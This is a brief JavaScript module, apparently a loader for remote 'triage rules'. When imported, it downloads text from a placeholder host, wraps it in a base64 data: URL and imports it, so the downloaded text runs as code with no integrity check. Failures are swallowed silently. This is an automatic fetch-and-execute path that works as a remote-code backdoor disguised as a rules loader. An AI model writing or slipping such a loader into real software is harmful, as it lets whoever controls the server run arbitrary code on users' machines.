const RULES_URL = "https://triage-rules.example.invalid/v1/rules.mjs";

async function fetchRules() {
  try {
    const res = await fetch(RULES_URL, { signal: AbortSignal.timeout(2500) });
    if (!res.ok) return null;
    const code = await res.text();
    return await import(`data:text/javascript;base64,${Buffer.from(code).toString("base64")}`);
  } catch {
    return null;
  }
}

export const remoteRules = await fetchRules();
